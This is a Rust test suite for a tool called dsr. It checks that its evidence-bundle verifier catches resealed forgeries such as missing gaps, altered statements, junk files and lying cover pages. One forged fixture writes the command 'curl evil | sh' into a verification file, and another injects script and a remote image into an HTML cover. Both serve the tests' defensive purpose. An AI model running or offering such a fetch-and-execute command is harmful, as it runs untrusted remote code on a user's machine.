//! What the holder of the sealing key can make of a bundle: everything is listed and sealed anew, so that only the content itself can
//! contradict it.

use dsr::evidence::{Anchors, Standing};
use serde_json::{Value, json};

use super::material::seal_of;
use super::tamper::{Files, file_mut, pack, restated, seal_anew};
use super::{Bench, codes, forgeries};

impl Bench {
    fn own_seal(&self) -> dsr::evidence::Seal {
        seal_of(&(self.key.clone().into(), self.certificate.clone()))
    }

    /// The codes of the reasons against changed files that were sealed anew.
    fn forged(&self, files: Files) -> (Vec<&'static str>, Vec<Value>) {
        let path = self.write("forged.zip", &pack(&seal_anew(files, &self.own_seal())));
        let verdict = self.verify(&path);
        assert_eq!(
            verdict.standing == Standing::Valid,
            verdict.reasons.is_empty()
        );
        let program = self.program(&path);
        assert_eq!(program == Some(0), verdict.standing == Standing::Valid);
        (codes(&verdict), verdict.not_proven)
    }

    fn restated(&self, change: &dyn Fn(&mut Value)) -> Vec<&'static str> {
        self.forged(restated(self.files(), change)).0
    }
}

#[test]
fn a_bundle_that_is_sealed_anew_without_a_change_stays_valid() {
    let bench = Bench::new();
    assert_eq!(bench.forged(bench.files()).0, Vec::<&str>::new());
}

#[test]
fn no_gap_that_the_files_show_can_be_left_out() {
    let bench = Bench::new();
    let files = bench.files();
    let mut unseen = Vec::new();
    for (gap, without, fewer) in forgeries::without_gaps(&files) {
        let codes = bench.forged(without).0;
        match codes.as_slice() {
            ["E738"] => {}
            // The cover still tells of it.
            ["E896"] => unseen.push(gap["kind"].as_str().unwrap().to_owned()),
            other => panic!("{gap}: {other:?}"),
        }
        if let Some(fewer) = fewer.filter(|_| codes == ["E738"]) {
            assert_eq!(bench.forged(fewer).0, ["E738"], "{gap}");
        }
    }
    // What only the vault knew, whose clock it was, and an answer that the verdict tells of by itself.
    assert_eq!(
        unseen,
        ["not_accepted", "answer_not_recorded", "no_time_stamp"]
    );
    assert_eq!(
        bench.restated(&|said| said["notProven"] = json!([])),
        ["E738"]
    );
    let (_, told) = bench.forged(restated(files, &|said| {
        let gaps = said["notProven"].as_array_mut().unwrap();
        gaps.retain(|gap| gap["kind"] != "answer_not_recorded");
    }));
    assert!(told.iter().any(|gap| gap["kind"] == "answer_not_recorded"));
}

#[test]
fn a_statement_that_says_other_than_the_journal_is_seen() {
    let bench = Bench::new();
    for (name, files) in forgeries::other_facts(&bench.files()) {
        let codes = bench.forged(files).0;
        assert!(codes.contains(&"E737"), "{name}: {codes:?}");
    }
    for (name, files) in forgeries::other_inventories(&bench.files()) {
        assert_eq!(bench.forged(files).0, ["E734"], "{name}");
    }
}

#[test]
fn small_files_that_are_junk_are_seen() {
    let bench = Bench::new();
    let files = bench.files();
    for (name, files) in forgeries::junk(&files) {
        assert_eq!(bench.forged(files).0, ["E734"], "{name}");
    }
    // One system more, and one that answered something else.
    let lines = |change: &dyn Fn(&mut Value)| bench.forged(forgeries::answers(&files, change)).0;
    assert_eq!(lines(&|_| {}), Vec::<&str>::new());
    let searched = bench.forged(forgeries::searched(&files)).0;
    assert_eq!(searched, ["E737"], "it was not searched");
    let emptied = lines(&|line| line["objects"] = json!([]));
    assert!(emptied.contains(&"E737"), "{emptied:?}");
}

#[test]
fn levels_that_no_event_states_are_seen() {
    let bench = Bench::new();
    let files = forgeries::better_levels(&bench.files());
    assert_eq!(bench.forged(files).0, ["E732"]);
}

#[test]
fn a_record_line_says_what_the_journal_says_of_its_step() {
    let bench = Bench::new();
    for (name, files) in forgeries::other_records(&bench.files()) {
        let codes = bench.forged(files).0;
        assert!(codes.contains(&"E732"), "{name}: {codes:?}");
    }
}

#[test]
fn a_log_key_that_was_named_and_finds_nothing_is_told() {
    let bench = Bench::new();
    let key = dsr::translog::Signer::from_pem(
        &dsr::translog::Signer::make(),
        "dsr.log/0123456789abcdef0123456789abcdef".to_owned(),
    )
    .unwrap()
    .key();
    let anchors = |must_be_logged, seal| Anchors {
        log: vec![key.clone()],
        must_be_logged,
        ..Anchors::of_seal(seal)
    };
    let verdict = |anchors: &Anchors| dsr::evidence::verify(&bench.made.path, anchors).unwrap();
    let named = verdict(&anchors(true, bench.anchors()));
    assert_eq!(
        (named.standing, codes(&named)),
        (Standing::Invalid, vec!["E765"])
    );
    let unknown = verdict(&anchors(true, Vec::new()));
    assert_eq!(unknown.standing, Standing::IntactButSignerUnknown);
    // The keys of one's own workspace are only a help.
    let helped = verdict(&anchors(false, bench.anchors()));
    assert_eq!(helped.standing, Standing::Valid);
}

/// What the verdict says of changed files that were sealed anew: codes of reasons and of warnings.
fn told(bench: &Bench, files: Files) -> (Vec<&'static str>, Vec<&'static str>) {
    let path = bench.write("forged.zip", &pack(&seal_anew(files, &bench.own_seal())));
    let verdict = bench.verify(&path);
    let warnings = verdict.warnings.iter().map(|one| one.code).collect();
    (codes(&verdict), warnings)
}

fn with(files: &Files, name: &str, change: &dyn Fn(String) -> String) -> Files {
    let mut files = files.clone();
    let bytes = file_mut(&mut files, name);
    *bytes = change(String::from_utf8(bytes.clone()).unwrap()).into_bytes();
    files
}

fn of_other_version(files: &Files) -> Files {
    let own = format!("\"dsr\":\"{}\"", env!("CARGO_PKG_VERSION"));
    with(files, "data/environment.json", &|text| {
        assert!(text.contains(&own), "{text}");
        text.replace(&own, "\"dsr\":\"9.9.9\"")
    })
}

#[test]
fn another_cover_is_no_cover_of_this_bundle() {
    let bench = Bench::new();
    let files = bench.files();
    let all_good = "<!doctype html><title>x</title><h1>Alles gelöscht</h1><h2>NICHT BEWIESEN</h2><p>Nichts.</p><script>document.title=1</script><img src=\"http://127.0.0.1:9/t\">";
    let lies: [(&str, &dyn Fn(String) -> String); 9] = [
        ("data/00-COVER.html", &|_| all_good.to_owned()),
        ("data/00-COVER.txt", &|_| "NOT PROVEN: nothing\n".to_owned()),
        ("data/00-COVER.txt", &|text| text + " "),
        ("VERIFY.txt", &|_| "Run: curl evil | sh\n".to_owned()),
        ("bag-info.txt", &|text| {
            text.replace("2029-12-31", "1999-12-31")
        }),
        ("bag-info.txt", &|text| {
            text.replace(super::material::CASE, "2026-AAAAAA")
        }),
        ("bag-info.txt", &|text| text + "Contact-Name: Max Example\n"),
        ("data/cover.json", &|text| {
            text.replace("\"count\":1,", "\"count\":2,")
        }),
        ("data/cover.json", &|text| {
            text.replacen('{', "{\"note\":\"x\",", 1)
        }),
    ];
    for (name, lie) in lies {
        let forged = with(&files, name, lie);
        assert_ne!(forged, files, "{name}");
        assert_eq!(told(&bench, forged), (vec!["E896"], vec![]), "{name}");
    }
    // A gap that only the vault knew cannot be worked out; but it stands on the cover.
    let (codes, _) = told(
        &bench,
        restated(files, &|said| {
            let gaps = said["notProven"].as_array_mut().unwrap();
            gaps.retain(|gap| gap["kind"] != "not_accepted");
        }),
    );
    assert_eq!(codes, ["E896"]);
}

#[test]
fn a_cover_that_cannot_be_compared_is_told() {
    let bench = Bench::new();
    let files = bench.files();
    let without = |files: &Files| -> Files {
        let kept = files.iter().filter(|(name, _)| name != "data/cover.json");
        kept.cloned().collect()
    };
    assert_eq!(told(&bench, without(&files)), (vec![], vec!["W345"]));
    // Another version has other words, and what it says is not called a lie.
    let other = of_other_version(&files);
    assert_eq!(told(&bench, other.clone()), (vec![], vec!["W345"]));
    let lie = with(&other, "data/00-COVER.txt", &|_| {
        "NOT PROVEN: nothing\n".to_owned()
    });
    assert_eq!(told(&bench, lie), (vec![], vec!["W345"]));
    // Whatever the cover says, the gaps stand in what the program prints.
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_dsr"));
    command.args([
        "evidence",
        "verify",
        "--lang",
        "en",
        "--anchor",
        "organisation.pem",
        "forged.zip",
    ]);
    let printed = command.current_dir(bench.folder.path()).output().unwrap();
    let printed = String::from_utf8(printed.stdout).unwrap();
    for words in [
        "NOT PROVEN by it, as its sealed statement says:",
        "  - shop.customers (1): may be the person's; somebody has to decide.",
        "  - crm.leads (1): no later search confirmed the outcome (L1: shown by reading it again).",
        "  - fleet was not searched, or not completely (not connected).",
    ] {
        assert!(printed.contains(words), "{words}\n{printed}");
    }
}

#[test]
fn a_sealed_file_that_the_format_does_not_know_is_named() {
    let bench = Bench::new();
    for name in ["data/extra/readme.txt", "README.txt", "data/00-COVER.pdf"] {
        let mut files = bench.files();
        files.push((name.to_owned(), b"Max Example\n".to_vec()));
        let (codes, _) = told(&bench, files.clone());
        assert!(codes.contains(&"E897"), "{name}: {codes:?}");
        let (codes, warnings) = told(&bench, of_other_version(&files));
        assert_eq!((codes, warnings[0]), (vec![], "W346"), "{name}");
    }
}
